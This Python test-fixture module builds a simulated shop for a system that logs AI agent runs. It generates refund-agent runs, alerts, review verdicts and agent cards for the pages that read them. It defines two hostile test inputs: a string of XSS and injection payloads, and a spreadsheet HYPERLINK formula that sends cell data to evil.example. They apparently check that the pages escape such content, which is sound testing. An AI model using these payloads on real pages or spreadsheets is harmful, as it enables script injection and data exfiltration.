"""A shop with two agents and two weeks of runs, for the pages that one reads."""

import asyncio
import itertools
from collections.abc import Iterator, Sequence
from datetime import datetime, timedelta
from typing import Any

import msgspec
from nats.js import JetStreamContext

from logged import alert, received
from midwatch.contracts import codec, subjects
from midwatch.contracts.control import Card, Presence, ToolRule
from midwatch.contracts.envelope import utc_now
from midwatch.contracts.reviews import ReviewAgreed
from midwatch.runtime.database import Database, migrate
from midwatch.runtime.delivery import Received
from midwatch.runtime.settings import Settings
from midwatch.runtime.switchboard import Switchboard
from midwatch.testing import card
from midwatch_services.cards import bucket
from midwatch_services.cards.meaning import meaning_hash
from midwatch_services.logger import store
from midwatch_services.logger.search.indexer import Index

AGENT, OTHER = "refund-desk", "order-desk"
OLD, NEW = "2026-11-01", "2026-11-20"
HOSTILE = (
    "</script><script>window.ran = 1</script><img src=x onerror='window.ran=2'> \u202egnp.exe \x1b[31m "
    '"\' onmouseover="window.ran=3" {{ 7*7 }} javascript:window.ran=4'
)
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"=1+1")'
LONG = "A very long line without an end. " * 31_000  # over 1 MB, and under what one message may hold

Steps = Sequence[tuple[str, dict[str, Any]]]


def refund(order: str, *, good: bool = True) -> Steps:
    """The steps of a run that refunds what was charged twice, or does not get so far."""
    usage = {"input_tokens": 1850, "output_tokens": 120}
    steps: list[tuple[str, dict[str, Any]]] = [
        ("started", {"input": f"I was charged twice for order {order}.", "channel": "chat"}),
        ("said", {"by": "customer", "text": f"I was charged twice for order {order}. Can I have it back?"}),
        ("model_called", {"provider": "openai", "model": "gpt-4.1", "usage": usage, "latency_ms": 1240.0,
                          "output": "I look the order up first."}),
        ("tool_called", {"tool": "lookup_order", "kind": "read", "arguments": {"order_id": order}, "latency_ms": 84.0,
                         "result": {"order": order, "charges": [{"amount": 39.9}, {"amount": 39.9}]}}),
        ("model_called", {"provider": "openai", "model": "gpt-4.1", "usage": usage, "latency_ms": 980.0}),
    ]  # fmt: skip
    if not good:
        return [
            *steps,
            ("tool_called", {"tool": "issue_refund", "kind": "write", "arguments": {"order_id": order, "amount": 39.9},
                             "error": "the payment provider does not answer", "latency_ms": 5000.0}),
            ("handed_off", {"to": "human", "reason": "The refund cannot be made just now",
                            "summary": f"Order {order} was charged twice: 39.90 are owed.",
                            "context": {"order": order, "owed": "39.90"}}),
            ("finished", {"resolution": "handed_off"}),
        ]  # fmt: skip
    return [
        *steps,
        ("tool_called", {"tool": "issue_refund", "kind": "write", "arguments": {"order_id": order, "amount": 39.9},
                         "result": {"refund": "R-77"}, "latency_ms": 410.0, "undo": "void_refund"}),
        ("said", {"by": "agent", "text": "Your 39.90 are on their way back to you; it takes three days at most."}),
        ("finished", {"resolution": "resolved", "output": "Refunded 39.90."}),
    ]  # fmt: skip


def run(
    run_id: str, begin: datetime, steps: Steps, *, agent: str = AGENT, version: str = NEW, **common: Any
) -> Iterator[Received]:
    """A run's events, a second and a half apart."""
    for seq, (event, fields) in enumerate(steps):
        at = begin + timedelta(seconds=1.5 * seq)
        yield received(
            event, id=f"{agent}.{run_id}.{seq}", run_id=run_id, seq=seq, agent=agent, version=version, at=at,
            stored_at=at, **common, **fields,
        )  # fmt: skip


def two_weeks(now: datetime) -> Iterator[Received]:
    """Some runs of each of the last 14 days and of today; the newest are of another version."""
    numbers = itertools.count(1001)
    for back in range(14, -1, -1):
        for place in range(3 + back % 4):
            number, begin = next(numbers), now - timedelta(days=back, minutes=20 + 11 * place)
            version = OLD if back > 5 else NEW
            steps = refund(f"A-{number}", good=(number + place) % 4 != 0)
            yield from run(
                f"run-{number}", begin, steps, version=version, ticket=f"T-{number}", customer=f"c-{number % 7}"
            )
        yield from run(
            f"order-{back}", now - timedelta(days=back, minutes=5), refund(f"B-{back}"), agent=OTHER, version="7"
        )


async def fill(settings: Settings, events: Iterator[Received], *more: Any) -> None:
    """Puts events into the run log, alerts and judgements beside them, and has all of it read into the index."""
    url = settings.database_for(subjects.LOGGER)
    await asyncio.to_thread(migrate, url, subjects.LOGGER)
    database = Database(url, name=subjects.LOGGER)
    try:
        await database.write(lambda conn: store.save(conn, list(events)))
        for one in more:
            await database.write(lambda conn, one=one: store.save_decision(conn, one))  # type: ignore[misc]
        index = Index(database)
        while await index.note(2**60) or await index.read(utc_now()):
            pass
        index.close()
    finally:
        database.close()


async def goes_on(settings: Settings, *events: Received) -> None:
    """Puts events into the run log of which its index does not know yet."""
    database = Database(settings.database_for(subjects.LOGGER), name=subjects.LOGGER)
    try:
        await database.write(lambda conn: store.save(conn, list(events)))
    finally:
        database.close()


def told_of(run_id: str, at: datetime, **fields: Any) -> Any:
    """An alert on a run of the shop."""
    given = {
        "title": f"Run {run_id} of {AGENT} has cost $1.20, more than the $1.00 that a run may cost", "agent": AGENT,
        "run_id": run_id, "dedupe_key": f"budget_run:{run_id}", **fields,
    }  # fmt: skip
    return alert("raised", alert_id=f"alert-{run_id}", at=at, **given)


def judged(run_id: str, at: datetime, verdict: str = "pass") -> Any:
    """The verdict that stands on a run of the shop."""
    data = ReviewAgreed(run_id=run_id, agent=AGENT, verdict=verdict, by=["ben"])  # type: ignore[arg-type]
    return codec.envelope("review", "agreed", data, source="/reviews", time=at)


def refund_card(**fields: Any) -> Card:
    """The card of the refund desk."""
    given: dict[str, Any] = {
        "owner": "Head of Support <support-lead@shop.example>",
        "purpose": "Answers billing tickets and refunds duplicate charges.",
        "can": ["Look up an order that the customer names", "Refund a duplicate charge of up to 50 dollars"],
        "cannot": ["Promise a delivery date"], "escalate_when": ["The customer mentions a lawyer"],
        "tools": {"lookup_order": ToolRule(kind="read"), "issue_refund": ToolRule(kind="write")}, **fields,
    }  # fmt: skip
    made = card(AGENT, **given)
    return msgspec.structs.replace(made, hash=meaning_hash(made))


async def arm(js: JetStreamContext, *cards: Card, by: str = "ann") -> None:
    """Applies cards, and has an instance of each agent say that it obeys."""
    for one in cards:
        await bucket.apply(js, one, by=by, now=utc_now())
    revisions = {entry.key: entry.revision for entry in await Switchboard(js).entries()}
    for agent in {one.agent for one in cards}:
        applied = {key: revisions.get(key, 0) for key in subjects.switch_keys(agent)}
        said = Presence(
            agent=agent, instance="pod-1", version=NEW, host="h", pid=1, applied=applied, runs_in_flight=[],
            draining=[], control_read_at=utc_now(), lease=600.0,
        )  # fmt: skip
        await js.publish(subjects.presence(agent, "pod-1"), msgspec.json.encode(said))
